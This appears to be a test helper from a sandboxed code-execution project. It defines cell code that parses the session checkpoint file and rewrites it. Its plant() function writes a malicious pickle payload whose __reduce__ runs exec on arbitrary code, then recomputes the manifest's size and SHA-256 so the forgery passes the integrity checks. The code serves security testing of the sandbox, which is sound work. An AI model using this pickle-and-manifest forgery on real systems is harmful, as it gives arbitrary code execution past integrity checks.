"""Cell code that takes a session's checkpoint file apart and writes it again, as a hostile
cell would (the layout docs/architecture.md, "Checkpoints", gives): ``PARTS`` defines, in the
cell's namespace, ``P`` (the file), ``parts()`` -> (payload, manifest), ``write(payload,
manifest)`` and ``plant(code)`` (a payload whose unpickling runs ``code``, with a manifest
that matches it, so it passes every check before the load)."""

PARTS = """
import json, os, hashlib, pickle
P = '.sandbox_exec/state/checkpoint'
HEAD = b"sandbox_exec checkpoint\\n"
TAIL = b"\\nend of sandbox_exec checkpoint\\n"
def parts():
    raw = open(P, 'rb').read()
    n = int.from_bytes(raw[-len(TAIL) - 4:-len(TAIL)], 'big')
    start = len(raw) - len(TAIL) - 4 - n
    return raw[len(HEAD):start], json.loads(raw[start:start + n])
def write(payload, manifest):
    enc = json.dumps(manifest).encode()
    with open(P, 'wb') as f:
        f.write(HEAD + payload + enc + len(enc).to_bytes(4, 'big') + TAIL)
def plant(code):
    class Evil:
        def __reduce__(self):
            return (exec, (code,))
    payload, m = parts()
    payload = pickle.dumps({"evil": Evil()}, protocol=5)
    m.update(payload_bytes=len(payload), sha256=hashlib.sha256(payload).hexdigest())
    write(payload, m)
"""
